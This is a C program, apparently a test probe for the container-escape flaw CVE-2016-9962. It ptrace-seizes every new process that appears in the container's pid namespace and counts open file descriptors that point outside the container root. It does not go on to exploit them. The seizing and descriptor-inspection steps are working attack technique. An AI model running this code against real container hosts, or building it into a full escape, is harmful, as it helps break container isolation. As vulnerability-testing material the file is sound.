// The attack of CVE-2016-9962: tracer SECONDS, in a container that may trace. Seizes every process that appears in its
// pid namespace, and lists what fds it can read of it. Says how many processes it saw, how many it got hold of while
// they still ran another program than this root's busybox, and how many of their fds led out of the root.
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int is_own_program(const char* pid) {
  char path[280];
  struct stat theirs, own;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  if (stat(path, &theirs) != 0 || stat("/bin/busybox", &own) != 0) return -1;
  return theirs.st_dev == own.st_dev && theirs.st_ino == own.st_ino;
}

static int count_foreign_fds(const char* pid) {
  char path[600], target[256];
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR* fds = opendir(path);
  if (fds == NULL) return 0;
  int foreign = 0;
  for (struct dirent* entry; (entry = readdir(fds)) != NULL;) {
    if (!isdigit(entry->d_name[0]) || atoi(entry->d_name) < 3) continue;
    snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
    const ssize_t length = readlink(path, target, sizeof target - 1);
    if (length > 0 && is_own_program(pid) != 1) ++foreign;
  }
  closedir(fds);
  return foreign;
}

int main(int count, char** words) {
  if (count != 2) return 2;
  const time_t end = time(NULL) + atoi(words[1]);
  int last = getpid(), seen = 0, seized = 0, early = 0, foreign = 0;
  while (time(NULL) < end) {
    DIR* proc = opendir("/proc");
    for (struct dirent* entry; (entry = readdir(proc)) != NULL;) {
      if (!isdigit(entry->d_name[0]) || atoi(entry->d_name) <= last) continue;
      const pid_t pid = atoi(entry->d_name);
      last = pid;
      ++seen;
      foreign += count_foreign_fds(entry->d_name);
      if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) continue;
      ++seized;
      ptrace(PTRACE_INTERRUPT, pid, 0, 0);
      int status;
      if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) continue;  // it has ended
      // Stopped: what it runs now is what it ran when it was seized.
      if (is_own_program(entry->d_name) != 1) ++early;
      foreign += count_foreign_fds(entry->d_name);
      ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    closedir(proc);
  }
  printf("seen %d seized %d early %d foreign %d\n", seen, seized, early, foreign);
  return 0;
}
